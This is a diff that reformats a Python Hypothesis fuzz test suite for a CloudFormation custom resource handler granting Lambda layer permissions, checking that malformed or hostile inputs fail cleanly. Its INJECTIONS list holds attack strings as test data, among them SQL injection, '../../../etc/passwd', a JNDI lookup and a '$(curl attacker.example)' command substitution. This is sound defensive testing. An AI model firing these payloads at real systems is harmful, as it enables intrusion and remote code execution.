@@ -14,7 +14,8 @@ from collections import Counter
 from collections.abc import Callable
 from typing import Any
 
-from hypothesis import HealthCheck, given, settings, strategies as st
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
 from tests.adversarial import figures
 from tests.adversarial.conftest import CallLog, Outcome, response_name
@@ -38,8 +39,11 @@ LAMBDA_ACCEPTS = {
     "OrganizationId": (r"o-[a-z0-9]{10,32}", 34),
     "RevisionId": (r"[a-zA-Z0-9-]+", 64),
 }
-OURS = re.compile(r"arn:[a-zA-Z0-9-]+:lambda:[a-zA-Z0-9-]+:[0-9]{12}:layer:[a-zA-Z0-9-_]+:[1-9][0-9]*"
-                  r"#[a-zA-Z0-9-_]{1,100}#[a-zA-Z0-9-]*", re.ASCII)
+OURS = re.compile(
+    r"arn:[a-zA-Z0-9-]+:lambda:[a-zA-Z0-9-]+:[0-9]{12}:layer:[a-zA-Z0-9-_]+:[1-9][0-9]*"
+    r"#[a-zA-Z0-9-_]{1,100}#[a-zA-Z0-9-]*",
+    re.ASCII,
+)
 
 
 def lambda_accepts(name: str, value: Any) -> bool:
@@ -47,8 +51,11 @@ def lambda_accepts(name: str, value: Any) -> bool:
         if isinstance(value, int) and not isinstance(value, bool):
             value = str(value)
         # A Long: at most 19 digits, checked before int() meets a 100,000-digit string.
-        return isinstance(value, str) and re.fullmatch(r"[1-9][0-9]{0,18}", value, re.ASCII) is not None and (
-            int(value) < 2**63)
+        return (
+            isinstance(value, str)
+            and re.fullmatch(r"[1-9][0-9]{0,18}", value, re.ASCII) is not None
+            and (int(value) < 2**63)
+        )
     pattern, longest = LAMBDA_ACCEPTS[name]
     return isinstance(value, str) and len(value) <= longest and re.fullmatch(pattern, value, re.ASCII) is not None
 
@@ -58,28 +65,65 @@ def valid_properties(properties: Any) -> bool:
     if not isinstance(properties, dict):
         return False
     names = set(properties) - set(FROM_CLOUDFORMATION)
-    return (set(REQUIRED) <= names <= {*REQUIRED, *OPTIONAL}
-            and all(lambda_accepts(name, properties[name]) for name in names)
-            and ("OrganizationId" not in names or properties["Principal"] == "*"))
+    return (
+        set(REQUIRED) <= names <= {*REQUIRED, *OPTIONAL}
+        and all(lambda_accepts(name, properties[name]) for name in names)
+        and ("OrganizationId" not in names or properties["Principal"] == "*")
+    )
 
 
 # --- strategies -------------------------------------------------------------------------------------------------
 
 json_scalars = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), st.text(max_size=40))
-json_values = st.recursive(json_scalars, lambda inner: st.one_of(
-    st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=10), inner, max_size=4)), max_leaves=12)
+json_values = st.recursive(
+    json_scalars,
+    lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=10), inner, max_size=4)),
+    max_leaves=12,
+)
 
 # Fullwidth digits, Cyrillic letters and a Unicode hyphen, for ASCII characters that look the same.
 LOOKALIKES = str.maketrans("0123456789aceopx-", "０１２３４５６７８９асеорх‐")
 ARABIC_INDIC = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")
 INJECTIONS = [
-    "'; DROP TABLE layers;--", "${AWS::AccountId}", "{{resolve:secretsmanager:prod/db}}", "../../../etc/passwd",
-    "%s%s%s%n", "{0.__class__.__mro__}", "\x00", "\nINFO forged log line", "<script>alert(1)</script>",
-    "${jndi:ldap://attacker.example/a}", "$(curl attacker.example)", "`id`", "*", "**", "?",
-    f"{LAYER_VERSION_ARN}#evil#", "arn:aws:iam::*:root", "223456789012\n", " 223456789012", "o-*",
+    "'; DROP TABLE layers;--",
+    "${AWS::AccountId}",
+    "{{resolve:secretsmanager:prod/db}}",
+    "../../../etc/passwd",
+    "%s%s%s%n",
+    "{0.__class__.__mro__}",
+    "\x00",
+    "\nINFO forged log line",
+    "<script>alert(1)</script>",
+    "${jndi:ldap://attacker.example/a}",
+    "$(curl attacker.example)",
+    "`id`",
+    "*",
+    "**",
+    "?",
+    f"{LAYER_VERSION_ARN}#evil#",
+    "arn:aws:iam::*:root",
+    "223456789012\n",
+    " 223456789012",
+    "o-*",
 ]
-NUMBERS_AS_STRINGS = ["0", "-1", "01", "1.0", "1e3", " 1", "1 ", "+1", "0x1", "9223372036854775808", "1_000",
-                      "NaN", "Infinity", "", "223456789012.0", "2.23456789012e11"]
+NUMBERS_AS_STRINGS = [
+    "0",
+    "-1",
+    "01",
+    "1.0",
+    "1e3",
+    " 1",
+    "1 ",
+    "+1",
+    "0x1",
+    "9223372036854775808",
+    "1_000",
+    "NaN",
+    "Infinity",
+    "",
+    "223456789012.0",
+    "2.23456789012e11",
+]
 
 
 SAMPLE_VALUES = {**VALID, "Action": "lambda:GetLayerVersion", "OrganizationId": "o-a1b2c3d4e5", "RevisionId": "rev-1"}
@@ -87,22 +131,30 @@ SAMPLE_VALUES = {**VALID, "Action": "lambda:GetLayerVersion", "OrganizationId": 
 
 def lookalike(name: str) -> st.SearchStrategy[str]:
     valid = SAMPLE_VALUES[name]
-    return st.sampled_from([
-        valid.translate(LOOKALIKES), valid.translate(ARABIC_INDIC), valid + "\u200b", "\ufeff" + valid,
-        valid + "\u0301",
-    ])
+    return st.sampled_from(
+        [
+            valid.translate(LOOKALIKES),
+            valid.translate(ARABIC_INDIC),
+            valid + "\u200b",
+            "\ufeff" + valid,
+            valid + "\u0301",
+        ]
+    )
 
 
 KINDS: dict[str, Callable[[str], st.SearchStrategy[Any]]] = {
     "wrong JSON type": lambda name: json_values.filter(lambda value: not isinstance(value, str)),
     "arbitrary unicode text": lambda name: st.text(max_size=64),
     "huge string (10 K to 200 K characters)": lambda name: st.builds(
-        lambda piece, count: piece * count, st.sampled_from(["a", "7", "é", "𝕏", "-_", "\u200b"]),
-        st.integers(10_000, 100_000)),
+        lambda piece, count: piece * count,
+        st.sampled_from(["a", "7", "é", "𝕏", "-_", "\u200b"]),
+        st.integers(10_000, 100_000),
+    ),
     "unicode look-alike of a valid value": lookalike,
     "injection-looking string": lambda name: st.sampled_from(INJECTIONS),
-    "number as an odd string": lambda name: st.one_of(st.sampled_from(NUMBERS_AS_STRINGS),
-                                                      st.integers().map(str), st.floats().map(str)),
+    "number as an odd string": lambda name: st.one_of(
+        st.sampled_from(NUMBERS_AS_STRINGS), st.integers().map(str), st.floats().map(str)
+    ),
 }
 PROPERTY_NAMES = (*REQUIRED, *OPTIONAL)
 
@@ -131,8 +183,11 @@ def bad_property_maps(draw: st.DrawFn) -> tuple[dict[str, Any], list[str], set[s
             properties[name] = SAMPLE_VALUES[name]
             kinds.append("OrganizationId without Principal '*'")
         else:
-            name = draw(st.text(min_size=1, max_size=30).filter(
-                lambda text: text not in (*PROPERTY_NAMES, *FROM_CLOUDFORMATION, *properties)))
+            name = draw(
+                st.text(min_size=1, max_size=30).filter(
+                    lambda text: text not in (*PROPERTY_NAMES, *FROM_CLOUDFORMATION, *properties)
+                )
+            )
             properties[name] = draw(json_values)
             kinds.append("unknown property")
         names.add(name)
@@ -145,12 +200,25 @@ arbitrary_property_maps = st.one_of(
 ).filter(lambda properties: not valid_properties(properties))
 
 IDENTITY_FIELDS = ("StackId", "RequestId", "LogicalResourceId")
-EVENT_FIELDS = ("RequestType", "ServiceToken", "ResponseURL", *IDENTITY_FIELDS, "ResourceType", "ResourceProperties",
-                "PhysicalResourceId", "OldResourceProperties")
+EVENT_FIELDS = (
+    "RequestType",
+    "ServiceToken",
+    "ResponseURL",
+    *IDENTITY_FIELDS,
+    "ResourceType",
+    "ResourceProperties",
+    "PhysicalResourceId",
+    "OldResourceProperties",
+)
 EVENT_DEFECTS = (
-    "missing RequestType", "unknown RequestType", "RequestType not a string", "missing ResponseURL",
-    "ResponseURL not a string", "missing or empty StackId, RequestId or LogicalResourceId",
-    "missing PhysicalResourceId on Update or Delete", "ResourceProperties not an object on Create or Update",
+    "missing RequestType",
+    "unknown RequestType",
+    "RequestType not a string",
+    "missing ResponseURL",
+    "ResponseURL not a string",
+    "missing or empty StackId, RequestId or LogicalResourceId",
+    "missing PhysicalResourceId on Update or Delete",
+    "ResourceProperties not an object on Create or Update",
     "event not a JSON object",
 )
 
@@ -159,17 +227,31 @@ EVENT_DEFECTS = (
 def bad_events(draw: st.DrawFn, response_url: str) -> tuple[Any, list[str]]:
     """A complete event with at least one structural defect, plus noise that must not matter."""
     request_type = draw(st.sampled_from(["Create", "Update", "Delete"]))
-    event = cfn_event(request_type, "Fuzzed", dict(VALID), response_url,
-                      physical_id=None if request_type == "Create" else f"{LAYER_VERSION_ARN}#fuzz#rev")
-    defects = draw(st.lists(st.sampled_from(EVENT_DEFECTS), min_size=1, max_size=3, unique=True).filter(
-        lambda chosen: request_type == "Create" or "ResourceProperties not an object on Create or Update" not in chosen
-    ).filter(lambda chosen: request_type != "Create" or "missing PhysicalResourceId on Update or Delete" not in chosen))
+    event = cfn_event(
+        request_type,
+        "Fuzzed",
+        dict(VALID),
+        response_url,
+        physical_id=None if request_type == "Create" else f"{LAYER_VERSION_ARN}#fuzz#rev",
+    )
+    defects = draw(
+        st.lists(st.sampled_from(EVENT_DEFECTS), min_size=1, max_size=3, unique=True)
+        .filter(
+            lambda chosen: (
+                request_type == "Create" or "ResourceProperties not an object on Create or Update" not in chosen
+            )
+        )
+        .filter(
+            lambda chosen: request_type != "Create" or "missing PhysicalResourceId on Update or Delete" not in chosen
+        )
+    )
     for defect in defects:
         if defect == "missing RequestType":
             event.pop("RequestType", None)
         elif defect == "unknown RequestType":
-            event["RequestType"] = draw(st.text(max_size=20).filter(lambda text: text not in ("Create", "Update",
-                                                                                               "Delete")))
+            event["RequestType"] = draw(
+                st.text(max_size=20).filter(lambda text: text not in ("Create", "Update", "Delete"))
+            )
         elif defect == "RequestType not a string":
             event["RequestType"] = draw(json_values.filter(lambda value: not isinstance(value, str)))
         elif defect == "missing ResponseURL":
@@ -187,8 +269,13 @@ def bad_events(draw: st.DrawFn, response_url: str) -> tuple[Any, list[str]]:
         elif defect == "ResourceProperties not an object on Create or Update":
             event["ResourceProperties"] = draw(json_values.filter(lambda value: not isinstance(value, dict)))
     if draw(st.booleans()):  # noise: fields CloudFormation may add one day, which must not matter
-        event.update(draw(st.dictionaries(st.text(min_size=1, max_size=15).filter(lambda k: k not in EVENT_FIELDS),
-                                          json_values, max_size=3)))
+        event.update(
+            draw(
+                st.dictionaries(
+                    st.text(min_size=1, max_size=15).filter(lambda k: k not in EVENT_FIELDS), json_values, max_size=3
+                )
+            )
+        )
     if "event not a JSON object" in defects:
         return draw(st.one_of(st.lists(st.just(event), max_size=2), st.just(str(event)), json_scalars)), defects
     return event, defects
@@ -198,20 +285,41 @@ def bad_events(draw: st.DrawFn, response_url: str) -> tuple[Any, list[str]]:
 foreign_physical_ids = st.one_of(
     st.text(min_size=1, max_size=120),
     st.sampled_from([f"not-granted-{n}" for n in range(3)]),
-    st.builds(lambda account, sid: f"arn:aws:lambda:us-east-1:{account}:layer:fuzzed:1#{sid}#rev",
-              st.sampled_from(["123456789012".translate(LOOKALIKES), "123456789012".translate(ARABIC_INDIC),
-                               "12345678901", "*"]),
-              st.sampled_from(["fuzz", "fuzz\n", "fu zz", "f" * 101, "fuzz#extra"])),
-    st.sampled_from([f"{LAYER_VERSION_ARN}#fuzz", f"{LAYER_VERSION_ARN}#fuzz#rev#", f"{LAYER_VERSION_ARN}0#fuzz#",
-                     LAYER_VERSION_ARN.replace(":1", ":0") + "#fuzz#", f"{LAYER_VERSION_ARN}#fuzz#rev\n"]),
+    st.builds(
+        lambda account, sid: f"arn:aws:lambda:us-east-1:{account}:layer:fuzzed:1#{sid}#rev",
+        st.sampled_from(
+            ["123456789012".translate(LOOKALIKES), "123456789012".translate(ARABIC_INDIC), "12345678901", "*"]
+        ),
+        st.sampled_from(["fuzz", "fuzz\n", "fu zz", "f" * 101, "fuzz#extra"]),
+    ),
+    st.sampled_from(
+        [
+            f"{LAYER_VERSION_ARN}#fuzz",
+            f"{LAYER_VERSION_ARN}#fuzz#rev#",
+            f"{LAYER_VERSION_ARN}0#fuzz#",
+            LAYER_VERSION_ARN.replace(":1", ":0") + "#fuzz#",
+            f"{LAYER_VERSION_ARN}#fuzz#rev\n",
+        ]
+    ),
 ).filter(lambda physical_id: not OURS.fullmatch(physical_id))
 
-FUZZ = settings(derandomize=True, database=None, deadline=None, print_blob=False, report_multiple_bugs=False,
-                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
-                                       HealthCheck.filter_too_much, HealthCheck.data_too_large])
+FUZZ = settings(
+    derandomize=True,
+    database=None,
+    deadline=None,
+    print_blob=False,
+    report_multiple_bugs=False,
+    suppress_health_check=[
+        HealthCheck.function_scoped_fixture,
+        HealthCheck.too_slow,
+        HealthCheck.filter_too_much,
+        HealthCheck.data_too_large,
+    ],
+)
 
 
 # --- checks -------------------------------------------------------------------------------------------------------
+
 
 class Tally:
     """Figures for one strategy, recorded when its test finishes."""
@@ -229,8 +337,9 @@ class Tally:
             self.longest_reason = max(self.longest_reason, len(str(response.body.get("Reason", "")).encode()))
 
     def record(self) -> None:
-        figures.record("fuzz", self.strategy, self.examples, self.responses, self.calls, self.largest,
-                       self.longest_reason)
+        figures.record(
+            "fuzz", self.strategy, self.examples, self.responses, self.calls, self.largest, self.longest_reason
+        )
 
 
 def body_size(response: ReceivedResponse) -> int:
@@ -312,8 +421,9 @@ def test_arbitrary_property_maps_fail_once_and_never_call_lambda(handle, respons
     figures.record("bad_inputs", "arbitrary JSON as ResourceProperties", tally.examples, tally.calls)
 
 
-def test_malformed_events_are_answered_once_when_possible_and_never_call_lambda(handle, response_url, receiver,
-                                                                               lambda_calls):
+def test_malformed_events_are_answered_once_when_possible_and_never_call_lambda(
+    handle, response_url, receiver, lambda_calls
+):
     tally, defects_tried, defect_calls = Tally("Malformed events"), Counter(), Counter()
     answered = Tally("answered")
 
@@ -341,8 +451,12 @@ def test_malformed_events_are_answered_once_when_possible_and_never_call_lambda(
     tally.record()
     for defect, count in sorted(defects_tried.items()):
         figures.record("bad_inputs", f"event: {defect}", count, defect_calls[defect])
-    figures.record("bad_inputs", "event: malformed but with a usable ResponseURL (answered FAILED)",
-                   answered.examples, answered.calls)
+    figures.record(
+        "bad_inputs",
+        "event: malformed but with a usable ResponseURL (answered FAILED)",
+        answered.examples,
+        answered.calls,
+    )
 
 
 def test_deletes_of_resources_that_are_not_grants_succeed_without_calling_lambda(handle, response_url, lambda_calls):
@@ -364,4 +478,3 @@ def test_deletes_of_resources_that_are_not_grants_succeed_without_calling_lambda
     check()
     tally.record()
     figures.record("bad_inputs", "Delete of a foreign or look-alike PhysicalResourceId", tally.examples, tally.calls)
-
